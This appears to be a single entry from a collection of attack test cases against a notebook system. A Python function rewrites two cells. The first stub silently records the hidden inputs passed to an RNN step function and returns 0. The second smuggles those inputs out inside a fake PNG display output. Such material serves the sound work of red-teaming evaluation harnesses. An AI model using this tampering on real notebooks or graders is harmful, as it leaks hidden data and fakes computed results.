# attack: dibuja las entradas ocultas en una figura de una celda posterior
# entry: 18
# where: notebook

def forge(notebook):
    cells = {c["id"]: c for c in notebook["cells"]}
    cells["rnn-step"]["source"] = "seen = []\ndef rnn_step(*a):\n    seen.append(repr(a))\n    return 0\n"
    cells["rnn-forward"]["source"] = "from IPython.display import Image, display\nimport base64\ndisplay({'image/png': base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + ' '.join(seen).encode()).decode()}, raw=True)"
    return notebook
